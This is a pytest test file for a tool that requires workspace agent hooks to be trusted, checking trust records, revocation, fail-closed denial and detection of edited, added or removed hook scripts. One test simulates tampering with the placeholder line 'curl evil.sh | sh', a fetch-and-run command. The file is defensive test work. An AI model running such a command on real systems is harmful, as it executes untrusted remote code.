"""Trust in workspace hooks: `agenthooks trust`, and runs that require it, with real files."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from agenthooks.api import load_hooks, run_event
from agenthooks.sources.trust import trust_path
from tests import support
from tests.support import program

from .conftest import agenthooks_run

pytestmark = pytest.mark.program

GATE = """#!/bin/sh
cat >/dev/null
touch "$AGENTHOOKS_WORKSPACE/.agents/ran-gate"
echo '{"decision": "allow", "systemMessage": "gate ran"}'
"""
PAYLOAD = {"tool_name": "run_command", "tool_input": {"command": "ls"}}


def hooks_json(*commands: str) -> str:
    return json.dumps({f"h{i}": {"PreToolUse": [{"matcher": "", "hooks": [{"command": c}]}]}
                       for i, c in enumerate(commands)})


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    """A workspace whose hooks.json runs a script kept beside it."""
    root = support.workspace(tmp_path / "ws", {
        ".agents/scripts/gate.sh": GATE, ".agents/hooks.json": hooks_json("./scripts/gate.sh")})
    (root / ".agents" / "scripts" / "gate.sh").chmod(0o755)
    return root


def trust(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return program("trust", *args, cwd=cwd)


def answer(done: subprocess.CompletedProcess[str]) -> dict[str, object]:
    assert done.stdout, done.stderr
    found: dict[str, object] = json.loads(done.stdout)
    return found


def ran(workspace: Path) -> bool:
    marker = workspace / ".agents" / "ran-gate"
    found = marker.exists()
    marker.unlink(missing_ok=True)
    return found


def test_off_by_default(workspace: Path) -> None:
    done = agenthooks_run("PreToolUse", payload=PAYLOAD, cwd=workspace)
    assert done.returncode == 0 and ran(workspace)


def test_a_script_edited_after_trust_is_refused_until_trusted_again(workspace: Path) -> None:
    real = os.path.realpath(workspace)
    refused = agenthooks_run("PreToolUse", "--require-trust", payload=PAYLOAD, cwd=workspace)
    assert refused.returncode == 0 and not ran(workspace)
    assert f"the workspace {real}: it is not trusted" in str(answer(refused)["systemMessage"])

    done = trust(cwd=workspace)
    assert done.returncode == 0, done.stderr
    assert done.stdout == f"trusted {real}: 2 files (1 hooks.json, 1 script)\n"
    allowed = agenthooks_run("PreToolUse", "--require-trust", payload=PAYLOAD, cwd=workspace)
    assert allowed.returncode == 0 and ran(workspace)
    assert answer(allowed) == {"decision": "allow", "systemMessage": "gate ran"}

    gate = workspace / ".agents" / "scripts" / "gate.sh"
    gate.write_text(GATE.replace("gate ran", "gate ran, and so did curl evil.sh | sh"))
    refused = agenthooks_run("PreToolUse", "--require-trust", payload=PAYLOAD, cwd=workspace)
    assert refused.returncode == 0 and not ran(workspace)
    warning = (f"skipped the hooks of the workspace {real}: it changed since it was trusted "
               f"(.agents/scripts/gate.sh modified); review them, then run "
               f"`agenthooks trust --workspace {real}`")
    assert answer(refused) == {"systemMessage": f"agenthooks {warning}"}
    assert f"agenthooks: warning: {warning}\n" in refused.stderr

    again = trust(cwd=workspace)
    assert again.stdout == (f"trusted again {real}: 2 files (1 hooks.json, 1 script)\n"
                            "  modified: .agents/scripts/gate.sh\n")
    allowed = agenthooks_run("PreToolUse", "--require-trust", payload=PAYLOAD, cwd=workspace)
    assert ran(workspace) and "curl evil.sh" in str(answer(allowed)["systemMessage"])


def test_added_and_removed_files_are_named(workspace: Path) -> None:
    assert trust(cwd=workspace).returncode == 0
    other = workspace / "tools" / "check.py"
    other.parent.mkdir()
    other.write_text("print('{}')\n")
    (workspace / ".agents" / "hooks.json").write_text(hooks_json("python3 ../tools/check.py"))
    (workspace / ".agents" / "scripts" / "gate.sh").unlink()
    done = agenthooks_run("PreToolUse", "--require-trust", payload=PAYLOAD, cwd=workspace)
    message = str(answer(done)["systemMessage"])
    assert ("(.agents/hooks.json modified, .agents/scripts/gate.sh removed, "
            "tools/check.py added)") in message


def test_fail_closed_denies_a_pre_tool_use_and_runs_nothing(workspace: Path) -> None:
    done = agenthooks_run("PreToolUse", "--require-trust", "--fail-closed", payload=PAYLOAD,
                          cwd=workspace)
    assert done.returncode == 2 and not ran(workspace)
    found = answer(done)
    assert found["decision"] == "deny"
    assert str(found["reason"]).startswith("fail-closed: agenthooks: skipped the hooks of the "
                                           "workspace")
    # Fail-closed acts on PreToolUse only: a Stop is answered, the workspace skipped.
    stop = agenthooks_run("Stop", "--require-trust", "--fail-closed", cwd=workspace)
    assert stop.returncode == 0 and "not trusted" in str(answer(stop)["systemMessage"])


def test_the_environment_requires_trust_and_can_turn_the_file_off(workspace: Path,
                                                                  xdg: Path) -> None:
    done = agenthooks_run("PreToolUse", payload=PAYLOAD, cwd=workspace,
                          env={"AGENTHOOKS_REQUIRE_TRUST": "1"})
    assert not ran(workspace) and "not trusted" in done.stdout
    config = xdg / "config" / "agenthooks" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text("require_trust = true\n")
    agenthooks_run("PreToolUse", payload=PAYLOAD, cwd=workspace)
    assert not ran(workspace)
    agenthooks_run("PreToolUse", payload=PAYLOAD, cwd=workspace,
                   env={"AGENTHOOKS_REQUIRE_TRUST": "0"})
    assert ran(workspace)


def test_the_user_level_still_runs(workspace: Path, home: Path) -> None:
    user = home / ".gemini" / "config" / "hooks.json"
    user.parent.mkdir(parents=True)
    user.write_text(json.dumps({"mine": {"PreToolUse": [{"matcher": "", "hooks": [
        {"command": "echo '{\"decision\": \"allow\", \"systemMessage\": \"user hook\"}'"}]}]}}))
    done = agenthooks_run("PreToolUse", "--require-trust", payload=PAYLOAD, cwd=workspace)
    message = str(answer(done)["systemMessage"])
    assert message.startswith("user hook\nagenthooks skipped the hooks of the workspace")
    assert not ran(workspace)


def test_show_prints_files_hashes_and_why_and_records_nothing(workspace: Path) -> None:
    done = trust("--show", "--format", "json", cwd=workspace)
    assert done.returncode == 0, done.stderr
    (shown,) = json.loads(done.stdout)["workspaces"]
    assert shown["workspace"] == os.path.realpath(workspace)
    assert shown["status"] == "untrusted" and shown["changes"] == []
    import hashlib

    gate = workspace / ".agents" / "scripts" / "gate.sh"
    assert shown["files"][1] == {
        "path": ".agents/scripts/gate.sh", "kind": "script",
        "sha256": hashlib.sha256(gate.read_bytes()).hexdigest(),
        "why": "named by hook 'h0' in .agents/hooks.json"}
    assert [f["path"] for f in shown["files"]] == [".agents/hooks.json",
                                                   ".agents/scripts/gate.sh"]
    assert not Path(trust_path()).exists()
    text = trust("--show", cwd=workspace).stdout
    assert text.startswith(f"{os.path.realpath(workspace)}: untrusted\n")
    assert ".agents/scripts/gate.sh" in text and "script" in text


def test_revoke_drops_the_record(workspace: Path) -> None:
    trust(cwd=workspace)
    agenthooks_run("PreToolUse", "--require-trust", payload=PAYLOAD, cwd=workspace)
    assert ran(workspace)
    real = os.path.realpath(workspace)
    assert trust("--revoke", cwd=workspace).stdout == f"revoked trust in {real}\n"
    assert trust("--revoke", cwd=workspace).stdout == f"{real} was not trusted\n"
    agenthooks_run("PreToolUse", "--require-trust", payload=PAYLOAD, cwd=workspace)
    assert not ran(workspace)


@pytest.mark.parametrize("command", [
    "$CLAUDE_PROJECT_DIR/.agents/scripts/gate.sh",
    "sh \"${GEMINI_PROJECT_DIR}/.agents/scripts/gate.sh\" --flag",
    "./scripts/gate.sh",
    "ABSOLUTE",
])
def test_the_words_that_name_scripts(workspace: Path, command: str) -> None:
    gate = workspace / ".agents" / "scripts" / "gate.sh"
    command = command.replace("ABSOLUTE", str(gate))
    (workspace / ".agents" / "hooks.json").write_text(hooks_json(command, "true"))
    shown = json.loads(trust("--show", "--format", "json", cwd=workspace).stdout)
    paths = [f["path"] for f in shown["workspaces"][0]["files"]]
    assert paths == [".agents/hooks.json", ".agents/scripts/gate.sh"]


def test_scripts_outside_the_workspace_are_exempt(workspace: Path, tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere.sh"
    outside.write_text("true\n")
    (workspace / ".agents" / "hooks.json").write_text(hooks_json(f"sh {outside}", "sh ../../x"))
    shown = json.loads(trust("--show", "--format", "json", cwd=workspace).stdout)
    assert [f["path"] for f in shown["workspaces"][0]["files"]] == [".agents/hooks.json"]


def test_a_config_outside_the_workspace_is_exempt(workspace: Path, tmp_path: Path) -> None:
    mine = tmp_path / "mine.json"
    mine.write_text(hooks_json(str(workspace / ".agents" / "scripts" / "gate.sh")))
    done = agenthooks_run("PreToolUse", "--require-trust", "--config", str(mine),
                          payload=PAYLOAD, cwd=workspace)
    assert done.returncode == 0 and ran(workspace) and "trust" not in done.stdout


def test_a_config_inside_the_workspace_is_trusted_as_the_runs_name_it(workspace: Path) -> None:
    config = ".agents/agenthooks.json"
    (workspace / config).write_text(hooks_json("./scripts/gate.sh"))
    refused = agenthooks_run("PreToolUse", "--require-trust", "--config", config,
                             payload=PAYLOAD, cwd=workspace)
    assert not ran(workspace)
    command = (f"agenthooks trust --workspace {os.path.realpath(workspace)} "
               f"--config {workspace / config}")
    assert f"then run `{command}`" in str(answer(refused)["systemMessage"])
    assert trust("--config", config, cwd=workspace).returncode == 0
    agenthooks_run("PreToolUse", "--require-trust", "--config", config, payload=PAYLOAD,
                   cwd=workspace)
    assert ran(workspace)


def test_concurrent_trusts_lose_no_record(tmp_path: Path) -> None:
    roots = []
    for i in range(16):
        root = tmp_path / f"ws{i}"
        (root / ".agents").mkdir(parents=True)
        (root / ".agents" / "hooks.json").write_text(hooks_json(f"echo {i}"))
        roots.append(root)
    with ThreadPoolExecutor(max_workers=16) as pool:
        codes = list(pool.map(lambda r: trust(cwd=r).returncode, roots))
    assert codes == [0] * 16
    stored = json.loads(Path(trust_path()).read_text())["workspaces"]
    assert sorted(stored) == sorted(os.path.realpath(r) for r in roots)
    assert [p.name for p in Path(trust_path()).parent.iterdir()
            if p.name.startswith(".trust-")] == []  # no temporary file left behind


def test_a_fifo_as_hook_file_or_trust_file_never_hangs_a_run(workspace: Path) -> None:
    assert trust(cwd=workspace).returncode == 0
    hooks = workspace / ".agents" / "hooks.json"
    hooks.unlink()
    os.mkfifo(hooks)
    done = agenthooks_run("PreToolUse", "--require-trust", payload=PAYLOAD, cwd=workspace)
    assert ".agents/hooks.json modified" in str(answer(done)["systemMessage"])
    store = Path(trust_path())
    store.unlink()
    os.mkfifo(store)
    done = agenthooks_run("PreToolUse", "--require-trust", payload=PAYLOAD, cwd=workspace)
    assert "it is not trusted" in str(answer(done)["systemMessage"])


def test_nothing_to_trust_exits_1(tmp_path: Path) -> None:
    done = trust(cwd=tmp_path)
    assert done.returncode == 1 and "nothing to trust" in done.stderr


def test_the_python_api(workspace: Path) -> None:
    hooks = load_hooks(workspaces=[str(workspace)], no_user=True, require_trust=True)
    assert hooks.files == () and "not trusted" in hooks.notes[0]
    result = run_event("PreToolUse", PAYLOAD, workspaces=[str(workspace)], no_user=True,
                       require_trust=True)
    assert not ran(workspace) and "not trusted" in result.output["systemMessage"]
    denied = run_event("PreToolUse", PAYLOAD, workspaces=[str(workspace)], no_user=True,
                       require_trust=True, fail_closed=True)
    assert denied.blocked and denied.decision.kind == "deny" and not ran(workspace)
    assert trust("--workspace", str(workspace), cwd=workspace.parent).returncode == 0
    result = run_event("PreToolUse", PAYLOAD, workspaces=[str(workspace)], no_user=True,
                       require_trust=True)
    assert ran(workspace) and result.output["systemMessage"] == "gate ran"


@pytest.mark.parametrize(("args", "imported"), [([], False), (["--require-trust"], True)])
def test_the_trust_module_loads_only_when_trust_is_required(workspace: Path, args: list[str],
                                                            imported: bool) -> None:
    done = subprocess.run([sys.executable, "-X", "importtime", "-m", "agenthooks", "run",
                           "Stop", *args], stdin=subprocess.DEVNULL, capture_output=True,
                          text=True, cwd=workspace, timeout=60, check=False)
    assert done.returncode == 0, done.stderr
    assert (" agenthooks.sources.trust\n" in done.stderr) is imported


@pytest.mark.parametrize(("host", "payload"), [
    ("claude", {"hook_event_name": "PreToolUse", "tool_name": "Bash",
                "tool_input": {"command": "ls"}}),
    ("gemini", {"hook_event_name": "BeforeTool", "tool_name": "run_shell_command",
                "tool_input": {"command": "ls"}}),
    ("antigravity", PAYLOAD),
])
def test_every_host_is_told_of_an_untrusted_workspace(workspace: Path, host: str,
                                                      payload: dict[str, object]) -> None:
    refused = agenthooks_run("PreToolUse", "--require-trust", "--host", host, payload=payload,
                             cwd=workspace)
    assert not ran(workspace)
    assert "it is not trusted" in str(answer(refused)["systemMessage"])
